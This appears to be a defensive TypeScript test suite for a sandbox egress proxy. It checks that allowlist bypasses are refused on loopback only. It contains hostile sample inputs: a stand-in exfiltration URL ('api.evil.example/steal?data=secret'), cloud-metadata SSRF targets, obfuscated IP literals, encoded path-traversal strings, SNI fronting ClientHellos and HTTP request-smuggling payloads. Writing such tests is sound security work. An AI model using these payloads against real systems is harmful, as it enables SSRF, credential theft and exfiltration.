/**
 * Attack suite: a sandboxed tool trying to get bytes somewhere its skill's
 * allowlist does not allow, through the egress proxy (its only way out).
 *
 * Nothing here touches a non-loopback address. Refusals are proved with an
 * injected resolver that maps allowlisted names to private, loopback,
 * link-local and metadata addresses, and an injected `connect` that records
 * every call and throws for anything but 127.0.0.1: each attack asserts that
 * the proxy answered as it should AND that `connect` was never called for it
 * (so no packet left). Allowed paths use loopback servers admitted with
 * allowPrivate: ["127.0.0.1/32"], only in the tests that need them.
 */
import assert from "node:assert/strict";
import { Agent } from "node:http";
import { connect as tlsConnect } from "node:tls";
import { describe, test } from "node:test";
import { httpServer, openTunnel, proxyRequest, rawExchange, startProxy, tcpServer, untilClosed, type ProxyWorld } from "../../sandbox/egress/helpers.ts";

function assertDenied(res: { status: number; headers: Record<string, unknown>; body: string }, body: RegExp): void {
  assert.equal(res.status, 403, res.body);
  assert.equal(res.headers["x-aegisclaw-denied"], "1");
  assert.match(res.headers["content-type"] as string, /^text\/plain/);
  assert.match(res.body, /^aegisclaw egress: /);
  assert.match(res.body, body);
}

function assertNothingLeft(w: ProxyWorld): void {
  assert.deepEqual(w.connectCalls, [], "the proxy must not open any upstream connection for a refused request");
}

describe("attack: reach a host that is not on the allowlist", () => {
  test("an unlisted host gets 403 naming it and the allowlist, before any DNS lookup", async (t) => {
    const w = await startProxy(t, { allow: ["api.github.com", "*.githubusercontent.com"], hosts: { "api.evil.example": ["127.0.0.1"] } });
    const res = await proxyRequest(w.socketPath, "http://api.evil.example/steal?data=secret");
    assertDenied(res, /aegisclaw egress: api\.evil\.example is not in this skill's allowlist \(allowed: api\.github\.com, \*\.githubusercontent\.com\)/);
    const tunnel = await openTunnel(w.socketPath, "api.evil.example:443");
    assert.equal(tunnel.status, 403);
    assert.match(tunnel.response, /X-AegisClaw-Denied: 1/);
    assert.match(tunnel.response, /api\.evil\.example is not in this skill's allowlist/);
    assertNothingLeft(w);
    assert.deepEqual(w.lookups, [], "a refused name is not even resolved (no DNS exfiltration through the proxy)");
    assert.deepEqual(
      w.decisions.map((d) => [d.allowed, d.kind, d.host, d.port]),
      [
        [false, "http", "api.evil.example", 80],
        [false, "connect", "api.evil.example", 443],
      ],
    );
    assert.match(w.decisions[0]?.reason ?? "", /not in this skill's allowlist/);
    assert.equal(w.proxy.stats().denied, 2);
  });

  test("an empty allowlist allows nothing", async (t) => {
    const w = await startProxy(t, { allow: [], hosts: { "api.github.com": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    assertDenied(await proxyRequest(w.socketPath, "http://api.github.com/"), /allowlist is empty, so it has no network access/);
    assertNothingLeft(w);
  });

  test("the apex of a wildcard, a lookalike suffix and an unlisted port are refused", async (t) => {
    const w = await startProxy(t, { allow: ["*.allowed.test", "exact.test"], hosts: { "allowed.test": ["127.0.0.1"], "xallowed.test": ["127.0.0.1"], "exact.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    for (const [authority, why] of [
      ["allowed.test:443", /allowed\.test is not in this skill's allowlist/],
      ["xallowed.test:443", /xallowed\.test is not in this skill's allowlist/],
      ["exact.test:22", /exact\.test is allowlisted on ports 443, 80 only, not 22/],
      ["exact.test.evil.example:443", /not in this skill's allowlist/],
    ] as const) {
      const tunnel = await openTunnel(w.socketPath, authority);
      assert.equal(tunnel.status, 403, authority);
      assert.match(tunnel.response, why);
    }
    assertNothingLeft(w);
  });
});

describe("attack: an allowlisted name that resolves to the host's side of the fence (SSRF, DNS rebinding)", () => {
  const answers: [string, RegExp][] = [
    ["10.0.0.5", /resolves to 10\.0\.0\.5, which is a private address/],
    ["192.168.1.1", /private address/],
    ["172.16.0.1", /private address/],
    ["169.254.169.254", /resolves to 169\.254\.169\.254, which is a metadata address.*cloud metadata services are never reachable/],
    ["127.0.0.1", /resolves to 127\.0\.0\.1, which is a loopback address/],
    ["::1", /resolves to ::1, which is a loopback address/],
    ["fd00:ec2::254", /resolves to fd00:ec2::254, which is a metadata address/],
    ["fd12:3456::1", /unique-local address/],
    ["fe80::1", /link-local address/],
    ["100.64.0.1", /cgnat address/],
    ["0.0.0.0", /unspecified address/],
    ["::ffff:10.0.0.5", /resolves to ::ffff:a00:5, which is a private address/],
    ["64:ff9b::a9fe:a9fe", /metadata address/],
    ["224.0.0.1", /multicast address/],
  ];
  for (const [address, why] of answers) {
    test(`allowlisted name resolving to ${address} is refused, for HTTP and CONNECT, and never connected to`, async (t) => {
      const w = await startProxy(t, { allow: ["api.allowed.test"], hosts: { "api.allowed.test": [address] }, reachable: {} });
      assertDenied(await proxyRequest(w.socketPath, "http://api.allowed.test/"), why);
      const tunnel = await openTunnel(w.socketPath, "api.allowed.test:443");
      assert.equal(tunnel.status, 403);
      assert.match(tunnel.response, why);
      assertNothingLeft(w);
      assert.equal(w.decisions[0]?.address, w.decisions[1]?.address);
    });
  }

  test("one non-public answer among public ones refuses the whole name (no picking the safe one and hoping)", async (t) => {
    const w = await startProxy(t, { allow: ["api.allowed.test"], hosts: { "api.allowed.test": ["93.184.215.14", "10.0.0.5"] }, reachable: { "93.184.215.14": "127.0.0.1" } });
    assertDenied(await proxyRequest(w.socketPath, "http://api.allowed.test/"), /resolves to 10\.0\.0\.5/);
    assertNothingLeft(w);
  });

  test("loopback is refused even for the proxy's own test servers unless allowPrivate names it", async (t) => {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`local.test:${String(server.port)}`], hosts: { "local.test": ["127.0.0.1"] } });
    assertDenied(await proxyRequest(w.socketPath, `http://local.test:${String(server.port)}/`), /loopback address; the proxy connects only to public addresses, unless the operator lists the range in allowPrivate/);
    assertNothingLeft(w);
    assert.equal(server.seen.length, 0);
  });

  test("allowPrivate covering 169.254.0.0/16 still does not open the metadata address", async (t) => {
    const w = await startProxy(t, { allow: ["api.allowed.test"], hosts: { "api.allowed.test": ["169.254.169.254"] }, allowPrivate: ["169.254.0.0/16"], reachable: {} });
    assertDenied(await proxyRequest(w.socketPath, "http://api.allowed.test/latest/meta-data/"), /metadata address/);
    assertNothingLeft(w);
  });

  test("a rebinding resolver gets exactly one question per request: the answer checked is the address connected to", async (t) => {
    const server = await httpServer(t);
    // First answer public (the fixture maps it onto the loopback server); every later answer is the metadata address.
    let asked = 0;
    const rebinding = (): readonly string[] => (asked++ === 0 ? ["93.184.215.14"] : ["169.254.169.254"]);
    const w = await startProxy(t, { allow: [`rebind.test:${String(server.port)}`], hosts: { "rebind.test": rebinding }, reachable: { "93.184.215.14": "127.0.0.1" } });
    const res = await proxyRequest(w.socketPath, `http://rebind.test:${String(server.port)}/`);
    assert.equal(res.status, 200);
    assert.equal(asked, 1, "resolved once: no second lookup between check and connect");
    assert.deepEqual(w.connectCalls, [{ address: "93.184.215.14", port: server.port }]);
    // The next request asks again and gets the rebound answer: refused, never connected.
    assertDenied(await proxyRequest(w.socketPath, `http://rebind.test:${String(server.port)}/`), /resolves to 169\.254\.169\.254, which is a metadata address/);
    assert.equal(w.connectCalls.length, 1);
  });
});

describe("attack: IP literals instead of names", () => {
  const literals: [string, string][] = [
    ["http://10.0.0.5/", "10.0.0.5"],
    ["http://127.0.0.1/", "127.0.0.1"],
    ["http://[::1]/", "::1"],
    ["http://169.254.169.254/latest/meta-data/", "169.254.169.254"],
    ["http://2130706433/", "127.0.0.1"],
    ["http://0x7f.1/", "127.0.0.1"],
    ["http://0177.0.0.1/", "127.0.0.1"],
    ["http://[::ffff:127.0.0.1]/", "::ffff:7f00:1"],
    ["http://93.184.215.14/", "93.184.215.14"],
  ];
  for (const [url, shown] of literals) {
    test(`${url} is refused: IP addresses only when the allowlist names them`, async (t) => {
      const w = await startProxy(t, { allow: ["api.github.com"], reachable: {} });
      assertDenied(await proxyRequest(w.socketPath, url), new RegExp(`${shown.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} is an IP address, and IP addresses are reachable only when this skill's allowlist names them`));
      assertNothingLeft(w);
      assert.deepEqual(w.lookups, []);
    });
  }

  test("CONNECT to IP literals in any spelling is refused", async (t) => {
    const w = await startProxy(t, { allow: ["api.github.com"], reachable: {} });
    for (const authority of ["10.0.0.5:443", "[::1]:443", "2130706433:443", "0x7f.1:443", "[fd00:ec2::254]:443"]) {
      const tunnel = await openTunnel(w.socketPath, authority);
      assert.equal(tunnel.status, 403, authority);
      assert.match(tunnel.response, /is an IP address/);
    }
    assertNothingLeft(w);
  });

  test("a listed private IP still needs allowPrivate (two keys: the skill's allowlist and the operator's)", async (t) => {
    const w = await startProxy(t, { allow: ["10.0.0.5"], reachable: {} });
    const tunnel = await openTunnel(w.socketPath, "10.0.0.5:443");
    assert.equal(tunnel.status, 403);
    assert.match(tunnel.response, /10\.0\.0\.5 is a private address/);
    assertNothingLeft(w);
  });

  test("a listed loopback IP with allowPrivate is reachable", async (t) => {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`127.0.0.1:${String(server.port)}`], allowPrivate: ["127.0.0.1/32"] });
    const res = await proxyRequest(w.socketPath, `http://127.0.0.1:${String(server.port)}/ok`);
    assert.equal(res.status, 200);
    assert.equal(res.body, "hello from /ok");
  });
});

describe("attack: domain fronting", () => {
  test("a CONNECT tunnel whose TLS ClientHello names another host (SNI) is closed before a byte reaches the server", async (t) => {
    const server = await tcpServer(t);
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const tunnel = await openTunnel(w.socketPath, `allowed.test:${String(server.port)}`);
    assert.equal(tunnel.status, 200);
    assert.ok(tunnel.socket);
    const secure = tlsConnect({ socket: tunnel.socket, servername: "evil.test", rejectUnauthorized: false });
    secure.on("error", () => undefined);
    const out = await untilClosed(secure);
    assert.equal(out.closed, true);
    assert.equal(server.received(), 0, "the ClientHello for evil.test never reached the server");
    const violations = w.proxy.stats().violations;
    assert.equal(violations.length, 1);
    assert.equal(violations[0]?.kind, "sni");
    assert.match(violations[0].message, /opened to allowed\.test:\d+ but its TLS handshake asks for evil\.test \(SNI\)/);
    assert.ok(w.decisions.some((d) => d.kind === "sni" && !d.allowed));
  });

  test("a ClientHello dribbled in one byte at a time is still read whole and judged", async (t) => {
    const server = await tcpServer(t);
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const hello = clientHello(["evil.test"]);
    const tunnel = await openTunnel(w.socketPath, `allowed.test:${String(server.port)}`);
    assert.ok(tunnel.socket);
    const s = tunnel.socket;
    s.on("error", () => undefined);
    for (const byte of hello) {
      if (s.destroyed) break;
      s.write(Buffer.from([byte]));
      await new Promise((r) => setImmediate(r));
    }
    assert.equal((await untilClosed(s)).closed, true);
    assert.equal(server.received(), 0);
    assert.equal(w.proxy.stats().violations[0]?.kind, "sni");
  });

  test("a ClientHello with two server names is refused as malformed (a front end might read the other one)", async (t) => {
    const server = await tcpServer(t);
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const tunnel = await openTunnel(w.socketPath, `allowed.test:${String(server.port)}`);
    assert.ok(tunnel.socket);
    tunnel.socket.write(clientHello(["allowed.test", "evil.test"]));
    assert.equal((await untilClosed(tunnel.socket)).closed, true);
    assert.equal(server.received(), 0);
    assert.match(w.proxy.stats().violations[0]?.message ?? "", /malformed TLS ClientHello \(two host names in server_name\)/);
  });

  test("with requireSni, a tunnel carrying plain HTTP (whose Host header the proxy cannot police) or TLS without SNI is closed", async (t) => {
    const server = await tcpServer(t);
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"], requireSni: true });
    const plain = await openTunnel(w.socketPath, `allowed.test:${String(server.port)}`);
    assert.ok(plain.socket);
    plain.socket.write("GET / HTTP/1.1\r\nHost: hidden.evil.example\r\n\r\n");
    assert.equal((await untilClosed(plain.socket)).closed, true);
    const noSni = await openTunnel(w.socketPath, `allowed.test:${String(server.port)}`);
    assert.ok(noSni.socket);
    noSni.socket.write(helloWithoutExtensions());
    assert.equal((await untilClosed(noSni.socket)).closed, true);
    assert.equal(server.received(), 0);
    assert.deepEqual(
      w.proxy.stats().violations.map((v) => v.kind),
      ["sni", "sni"],
    );
    // The right name still passes.
    const good = await openTunnel(w.socketPath, `allowed.test:${String(server.port)}`);
    assert.ok(good.socket);
    good.socket.write(clientHello(["allowed.test"]));
    for (let i = 0; i < 100 && server.received() === 0; i += 1) await new Promise((r) => setTimeout(r, 10));
    assert.ok(server.received() > 0);
    good.socket.destroy();
  });

  test("a Host header naming another site is replaced by the URL's authority on plain HTTP", async (t) => {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`front.test:${String(server.port)}`], hosts: { "front.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const res = await proxyRequest(w.socketPath, `http://front.test:${String(server.port)}/`, { headers: { Host: "hidden.evil.example" } });
    assert.equal(res.status, 200);
    assert.equal(server.seen[0]?.headers.host, `front.test:${String(server.port)}`);
    assert.equal(server.seen[0].rawHeaders.filter((h) => h.toLowerCase() === "host").length, 1);
  });

  test("user info in the URL cannot smuggle a different host past the check", async (t) => {
    const w = await startProxy(t, { allow: ["allowed.test"], hosts: { "allowed.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const res = await proxyRequest(w.socketPath, "http://allowed.test@evil.test/");
    assert.equal(res.status, 400);
    assert.match(res.body, /user info in the URL/);
    const tunnel = await openTunnel(w.socketPath, "allowed.test@evil.test:443");
    assert.equal(tunnel.status, 400);
    assertNothingLeft(w);
  });
});

describe("attack: escape a method or path restriction", () => {
  async function restricted(t: Parameters<typeof startProxy>[0]): Promise<{ w: ProxyWorld; port: number; seen: () => number }> {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`GET,HEAD api.allowed.test:${String(server.port)}/v1/`], hosts: { "api.allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    return { w, port: server.port, seen: () => server.seen.length };
  }

  test("a path outside the allowed prefix is refused", async (t) => {
    const { w, port, seen } = await restricted(t);
    assert.equal((await proxyRequest(w.socketPath, `http://api.allowed.test:${String(port)}/v1/items`)).status, 200);
    assertDenied(await proxyRequest(w.socketPath, `http://api.allowed.test:${String(port)}/admin`), /\/admin on api\.allowed\.test is outside the allowed path prefix \/v1\//);
    assert.equal(seen(), 1);
  });

  test("dot segments, encoded dots and slashes, and servlet ..; tricks are refused", async (t) => {
    const { w, port, seen } = await restricted(t);
    for (const path of ["/v1/../admin", "/v1/%2e%2e/admin", "/v1/%2E%2E/admin", "/v1/..%2fadmin", "/v1/..%2Fadmin", "/v1/..;/admin", "/v1/%5c..%5cadmin", "/v1\\..\\admin"]) {
      const res = await proxyRequest(w.socketPath, `http://api.allowed.test:${String(port)}${path}`);
      assert.equal(res.status, 403, path);
    }
    assert.equal(seen(), 0, "none reached the server");
  });

  test("another method is refused", async (t) => {
    const { w, port, seen } = await restricted(t);
    assertDenied(await proxyRequest(w.socketPath, `http://api.allowed.test:${String(port)}/v1/items`, { method: "DELETE" }), /DELETE is not allowed to api\.allowed\.test \(allowed methods: GET, HEAD\)/);
    assert.equal(seen(), 0);
  });

  test("a CONNECT tunnel to a method/path-restricted host is refused (the tunnel would hide both)", async (t) => {
    const { w, port } = await restricted(t);
    const tunnel = await openTunnel(w.socketPath, `api.allowed.test:${String(port)}`);
    assert.equal(tunnel.status, 403);
    assert.match(tunnel.response, /a CONNECT tunnel \(HTTPS\) hides them/);
    assertNothingLeft(w);
  });

  for (const method of ["POST", "GET", "DELETE"]) {
    test(`a request smuggled in a chunked ${method} body stays body: the server sees one request`, async (t) => {
      const server = await httpServer(t);
      const w = await startProxy(t, { allow: [`${method} api.allowed.test:${String(server.port)}/v1/`], hosts: { "api.allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
      const inner = `0\r\n\r\nDELETE /admin HTTP/1.1\r\nHost: api.allowed.test\r\n\r\n`;
      const chunk = `${inner.length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`;
      const raw = await rawExchange(w.socketPath, `${method} http://api.allowed.test:${String(server.port)}/v1/x HTTP/1.1\r\nHost: api.allowed.test\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${chunk}`);
      assert.match(raw, /^HTTP\/1\.1 200/);
      await new Promise((r) => setTimeout(r, 50));
      assert.deepEqual(
        server.seen.map((s) => [s.method, s.url, s.body]),
        [[method, "/v1/x", inner]],
      );
    });
  }

  test("Content-Length together with Transfer-Encoding is refused as malformed (request smuggling)", async (t) => {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`api.allowed.test:${String(server.port)}`], hosts: { "api.allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const raw = await rawExchange(w.socketPath, `POST http://api.allowed.test:${String(server.port)}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n`);
    assert.match(raw, /^HTTP\/1\.1 400/);
    assert.equal(server.seen.length, 0);
  });
});

describe("attack: ride an allowed keep-alive connection to another host", () => {
  test("a second request on the same connection, to an unlisted host, is judged afresh and refused", async (t) => {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    t.after(() => {
      agent.destroy();
    });
    assert.equal((await proxyRequest(w.socketPath, `http://allowed.test:${String(server.port)}/`, { agent })).status, 200);
    assertDenied(await proxyRequest(w.socketPath, `http://evil.test:${String(server.port)}/`, { agent }), /evil\.test is not in this skill's allowlist/);
    assert.equal(w.proxy.stats().connections, 1, "both requests rode one client connection");
    assert.equal(server.seen.length, 1);
    assert.deepEqual(w.connectCalls.length, 1);
  });

  test("pipelined requests in one write are each judged", async (t) => {
    const server = await httpServer(t);
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const p = String(server.port);
    const raw = await rawExchange(w.socketPath, `GET http://allowed.test:${p}/one HTTP/1.1\r\nHost: allowed.test\r\n\r\nGET http://evil.test:${p}/two HTTP/1.1\r\nHost: allowed.test\r\n\r\n`);
    assert.match(raw, /^HTTP\/1\.1 200[\s\S]*hello from \/one[\s\S]*HTTP\/1\.1 403 Forbidden[\s\S]*evil\.test is not in this skill's allowlist/);
    assert.deepEqual(
      server.seen.map((s) => s.url),
      ["/one"],
    );
  });
});

describe("attack: malformed and oversized requests", () => {
  test("a header flood gets 431", async (t) => {
    const w = await startProxy(t, { allow: ["allowed.test"] });
    const big = await rawExchange(w.socketPath, `GET http://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\nX-Flood: ${"a".repeat(20 * 1024)}\r\n\r\n`);
    assert.match(big, /^HTTP\/1\.1 431 Request Header Fields Too Large/);
    const many = await rawExchange(w.socketPath, `GET http://allowed.test/ HTTP/1.1\r\n${Array.from({ length: 2000 }, (_, i) => `X-H${String(i)}: v`).join("\r\n")}\r\n\r\n`);
    assert.match(many, /^HTTP\/1\.1 431/);
    assertNothingLeft(w);
  });

  test("garbage, origin-form, other schemes and a CONNECT without a port get 400", async (t) => {
    const w = await startProxy(t, { allow: ["allowed.test"], hosts: { "allowed.test": ["127.0.0.1"] } });
    assert.match(await rawExchange(w.socketPath, "GARBAGE\r\n\r\n"), /^HTTP\/1\.1 400 Bad Request[\s\S]*malformed request/);
    assert.match(await rawExchange(w.socketPath, "GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), /^HTTP\/1\.1 400[\s\S]*send requests in absolute form/);
    assert.match(await rawExchange(w.socketPath, "GET https://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), /^HTTP\/1\.1 400[\s\S]*goes through CONNECT/);
    assert.match(await rawExchange(w.socketPath, "GET ftp://allowed.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), /^HTTP\/1\.1 400/);
    assert.match(await rawExchange(w.socketPath, "CONNECT allowed.test HTTP/1.1\r\nHost: allowed.test\r\n\r\n"), /^HTTP\/1\.1 400[\s\S]*CONNECT needs host:port/);
    assert.match(await rawExchange(w.socketPath, "CONNECT allowed.test:0 HTTP/1.1\r\n\r\n"), /^HTTP\/1\.1 400/);
    assert.match(await rawExchange(w.socketPath, "CONNECT allowed.test:99999 HTTP/1.1\r\n\r\n"), /^HTTP\/1\.1 400/);
    assert.match(await rawExchange(w.socketPath, "GET http://allowed.test/ HTTP/1.1\r\nHost: a\r\nBad Header\r\n\r\n"), /^HTTP\/1\.1 400/);
    assertNothingLeft(w);
  });

  test("a WebSocket upgrade over plain http:// is not proxied (501)", async (t) => {
    const w = await startProxy(t, { allow: ["allowed.test"], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"] });
    const raw = await rawExchange(w.socketPath, "GET http://allowed.test/ws HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
    assert.match(raw, /^HTTP\/1\.1 501[\s\S]*use wss:\/\//);
    assertNothingLeft(w);
  });
});

describe("attack: move more data than the run's byte budget", () => {
  test("a download crossing maxBytes is cut off, recorded, and later requests are refused", async (t) => {
    const server = await httpServer(t, (_req, res) => {
      res.end("x".repeat(1024 * 1024));
    });
    const w = await startProxy(t, { allow: [`allowed.test:${String(server.port)}`], hosts: { "allowed.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"], maxBytes: 64 * 1024 });
    const got = await proxyRequest(w.socketPath, `http://allowed.test:${String(server.port)}/big`).then(
      (r) => r.body.length,
      () => -1,
    );
    assert.ok(got < 1024 * 1024, `the client must not get the whole body (got ${String(got)})`);
    const stats = w.proxy.stats();
    assert.equal(stats.violations[0]?.kind, "bytes");
    assert.ok(stats.bytesDown < 1024 * 1024);
    assertDenied(await proxyRequest(w.socketPath, `http://allowed.test:${String(server.port)}/again`), /byte budget for this run \(65536 bytes\) is used up/);
  });

  test("an upload through a tunnel crossing maxBytes closes the tunnel", async (t) => {
    const server = await tcpServer(t);
    const w = await startProxy(t, { allow: [`sink.test:${String(server.port)}`], hosts: { "sink.test": ["127.0.0.1"] }, allowPrivate: ["127.0.0.1/32"], maxBytes: 100_000 });
    const tunnel = await openTunnel(w.socketPath, `sink.test:${String(server.port)}`);
    assert.ok(tunnel.socket);
    const s = tunnel.socket;
    s.on("error", () => undefined);
    const closed = untilClosed(s, 5000);
    for (let i = 0; i < 50 && !s.destroyed; i += 1) {
      s.write(Buffer.alloc(16 * 1024, 1));
      await new Promise((r) => setImmediate(r));
    }
    assert.equal((await closed).closed, true);
    assert.ok(server.received() <= 100_000 + 64 * 1024, `received ${String(server.received())}`);
    assert.equal(w.proxy.stats().violations[0]?.kind, "bytes");
  });
});

/** A ClientHello record with no extensions at all (so no SNI). */
function helloWithoutExtensions(): Buffer {
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0]), Buffer.from([0, 2, 0x13, 0x01]), Buffer.from([1, 0])]);
  const hs = Buffer.alloc(4);
  hs.writeUInt8(1, 0);
  hs.writeUIntBE(body.length, 1, 3);
  const rec = Buffer.from([0x16, 0x03, 0x01, 0, 0]);
  rec.writeUInt16BE(hs.length + body.length, 3);
  return Buffer.concat([rec, hs, body]);
}

/** A minimal TLS 1.2-style ClientHello record carrying the given server names (each as its own host_name entry). */
function clientHello(names: readonly string[]): Buffer {
  const entries = Buffer.concat(
    names.map((n) => {
      const name = Buffer.from(n, "ascii");
      const e = Buffer.alloc(3);
      e.writeUInt8(0, 0);
      e.writeUInt16BE(name.length, 1);
      return Buffer.concat([e, name]);
    }),
  );
  const list = Buffer.alloc(2);
  list.writeUInt16BE(entries.length);
  const sniData = Buffer.concat([list, entries]);
  const ext = Buffer.alloc(4);
  ext.writeUInt16BE(0, 0);
  ext.writeUInt16BE(sniData.length, 2);
  const extensions = Buffer.concat([ext, sniData]);
  const extLen = Buffer.alloc(2);
  extLen.writeUInt16BE(extensions.length);
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0]), Buffer.from([0, 2, 0x13, 0x01]), Buffer.from([1, 0]), extLen, extensions]);
  const hs = Buffer.alloc(4);
  hs.writeUInt8(1, 0);
  hs.writeUIntBE(body.length, 1, 3);
  const handshake = Buffer.concat([hs, body]);
  const rec = Buffer.alloc(5);
  rec.writeUInt8(0x16, 0);
  rec.writeUInt16BE(0x0301, 1);
  rec.writeUInt16BE(handshake.length, 3);
  return Buffer.concat([rec, handshake]);
}
